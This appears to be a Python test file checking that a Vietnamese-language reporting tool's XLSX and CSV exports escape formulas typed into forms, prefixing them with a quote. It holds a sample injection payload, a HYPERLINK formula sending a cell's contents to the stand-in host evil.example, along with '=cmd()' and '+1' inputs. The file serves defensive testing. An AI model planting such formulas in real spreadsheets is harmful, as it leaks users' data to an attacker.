"""Exports never hand a spreadsheet a formula someone typed into a form."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook  # type: ignore[import-untyped]

from reports.spreadsheet import Heading
from web.tables import Table, to_csv, to_xlsx

TYPED = '=HYPERLINK("http://evil.example/?"&A2,"Mở văn bản")'


def a_table() -> Table:
    return Table("Nhiệm vụ", "Nhiệm vụ", ("TT", "Văn bản"),
                 [("1", TYPED), ("2", "+1"), ("3", "15/KH-UBND")])


def test_a_typed_formula_is_exported_to_xlsx_as_text() -> None:
    heading = Heading("=cmd()", "Kế hoạch số 1", "", date(2025, 6, 30))
    sheet = load_workbook(io.BytesIO(to_xlsx(heading, [a_table()]))).active
    assert sheet["A1"].value == "'=CMD()"
    assert sheet["B7"].data_type == "s" and sheet["B7"].value == "'" + TYPED
    assert sheet["B8"].value == "'+1"
    assert sheet["B9"].value == "15/KH-UBND"


def test_a_typed_formula_is_exported_to_csv_as_text() -> None:
    text = to_csv(a_table()).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n2,'+1" in text.replace("\r\n", "\n")
    assert "15/KH-UBND" in text
